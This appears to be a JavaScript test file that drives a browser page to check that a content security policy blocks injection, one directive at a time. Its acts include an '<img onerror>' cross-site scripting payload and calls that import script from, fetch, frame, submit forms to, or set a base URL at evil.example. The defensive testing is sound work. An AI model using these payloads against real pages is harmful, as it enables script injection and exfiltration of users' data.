/** The content security policy stops whatever a hostile text could bring into the page. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { eventually } from './limits.js'
import { stage } from './stage.js'

/** Each act runs in the page and would set globalThis.done, or reach evil.example. */
const acts = {
  'script-src-elem': () => {
    void import('http://evil.example/x.js').catch(() => undefined)
  },
  // Every way from a text to a script is stopped before the other directives see the script.
  'require-trusted-types-for': () => {
    for (const [tag, property] of [
      ['script', 'text'],
      ['div', 'innerHTML'],
      ['iframe', 'srcdoc'],
    ]) {
      try {
        const element = document.createElement(tag)
        element[property] = '<img src=x onerror="globalThis.done = true">'
        document.body.append(element)
      } catch {
        // The browser throws.
      }
    }
  },
  'trusted-types': () => {
    try {
      trustedTypes.createPolicy('another', {})
    } catch {
      // The browser throws.
    }
  },
  'img-src': () => {
    new Image().src = 'http://evil.example/x.png'
  },
  'connect-src': () => {
    void fetch('http://evil.example/').catch(() => undefined)
  },
  'frame-src': () => {
    const frame = document.createElement('iframe')
    frame.src = 'http://evil.example/'
    document.body.append(frame)
  },
  'form-action': () => {
    const form = document.createElement('form')
    form.action = 'http://evil.example/'
    document.body.append(form)
    form.submit()
  },
  'style-src-elem': () => {
    const style = document.createElement('style')
    style.append('* { display: none }')
    document.body.append(style)
  },
  'base-uri': () => {
    const base = document.createElement('base')
    base.href = 'http://evil.example/'
    document.head.append(base)
  },
}

test('the policy stops injected scripts, styles, frames, forms and requests', async (t) => {
  const { window } = await stage(t, null)
  for (const [directive, act] of Object.entries(acts)) {
    await window.page.evaluate(act)
    await eventually(() => {
      assert.ok(
        window.faults.some((fault) => fault.startsWith(`policy: ${directive} `)),
        `${directive} stopped nothing: ${window.faults.join('; ')}`,
      )
    })
    // The browser announces also the requests stopped by the policy.
    const others = window.faults.filter((fault) => !/^(policy|request): /.test(fault))
    assert.deepEqual(others, [])
    window.faults.length = 0
  }
  assert.equal(await window.page.evaluate(() => globalThis.done), undefined)
})
